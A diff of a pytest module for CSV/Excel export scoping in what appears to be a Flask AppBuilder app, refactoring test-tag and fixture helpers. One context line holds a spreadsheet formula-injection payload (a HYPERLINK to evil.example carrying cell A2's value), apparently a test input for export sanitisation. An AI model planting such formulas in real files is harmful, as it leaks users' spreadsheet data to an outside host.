@@ -9,6 +9,7 @@ import pytest
 from openpyxl import load_workbook
 
 from app.exports import BOM
+from tests.helpers import mine_and_theirs, unique_tag
 
 # FAB's list filters: `_flt_<index>_<column>`; for a string column index 2 is "contains",
 # for an enum index 0 is "equal" (flask_appbuilder.models.sqla.filters.SQLAFilterConverter).
@@ -17,8 +18,8 @@ FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
 
 
 def tag():
-    """A token no other test's rows contain (the database is shared by the whole run)."""
-    return "x" + uuid.uuid4().hex[:10]
+    """A token of this module's own (tests/helpers.unique_tag)."""
+    return unique_tag("x")
 
 
 def export_csv(client, path, **args):
@@ -128,10 +129,8 @@ def test_a_soft_deleted_customer_is_never_exported(browser_login, make, db):
 
 def test_other_lists_export_in_scope(browser_login, make):
     t = tag()
-    mine = make.meeting("sales", title=f"{t} 面談")
-    theirs = make.meeting("sales2", title=f"{t} 面談")
-    req = make.approval("sales", product_name=f"{t} 投信")
-    other_req = make.approval("sales2", product_name=f"{t} 投信")
+    mine, theirs = mine_and_theirs(make, "meeting", title=f"{t} 面談")
+    req, other_req = mine_and_theirs(make, "approval", product_name=f"{t} 投信")
     client = browser_login("sales")
     _resp, rows = export_csv(client, "/meetingview/export/csv", **{f"_flt_{CONTAINS}_title": t})
     assert len(rows) == 2 and mine.title in rows[1]
